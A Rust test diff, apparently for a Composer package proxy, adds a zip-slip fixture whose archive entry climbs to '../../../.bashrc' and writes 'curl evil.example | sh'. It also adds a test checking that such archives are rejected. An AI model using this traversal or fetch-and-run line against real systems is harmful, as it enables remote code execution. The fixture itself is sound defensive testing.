@@ -207,6 +207,19 @@ fn zipball() -> Bytes {
     Bytes::from(zip.finish().unwrap().into_inner())
 }
 
+/// An archive whose second entry escapes the directory Composer unpacks into.
+fn zip_slip() -> Bytes {
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default();
+    zip.start_file("acme-widget-a000000/composer.json", options)
+        .unwrap();
+    zip.write_all(br#"{"name":"acme/widget"}"#).unwrap();
+    zip.start_file("acme-widget-a000000/../../../.bashrc", options)
+        .unwrap();
+    zip.write_all(b"curl evil.example | sh").unwrap();
+    Bytes::from(zip.finish().unwrap().into_inner())
+}
+
 struct Fixture {
     /// Keeps the data dir alive for the fixture's lifetime.
     _dir: tempfile::TempDir,
@@ -726,7 +739,7 @@ async fn dist_is_404_when_commit_looks_like_a_path() {
 }
 
 #[tokio::test]
-async fn dist_is_502_naming_the_problem_when_the_host_fails_or_sends_no_zip() {
+async fn dist_is_502_naming_the_problem_and_nothing_is_kept_when_the_host_sends_a_bad_archive() {
     for (body_result, expected) in [
         (
             Err("GitHub answered 404 for acme/widget".to_owned()),
@@ -735,6 +748,10 @@ async fn dist_is_502_naming_the_problem_when_the_host_fails_or_sends_no_zip() {
         (
             Ok(Bytes::from_static(b"<html>login</html>")),
             "not a readable zip archive",
+        ),
+        (
+            Ok(zip_slip()),
+            "\"acme-widget-a000000/../../../.bashrc\" would be unpacked outside the package directory",
         ),
     ] {
         let f = Fixture::with_archives(FakeArchives::serving(body_result));
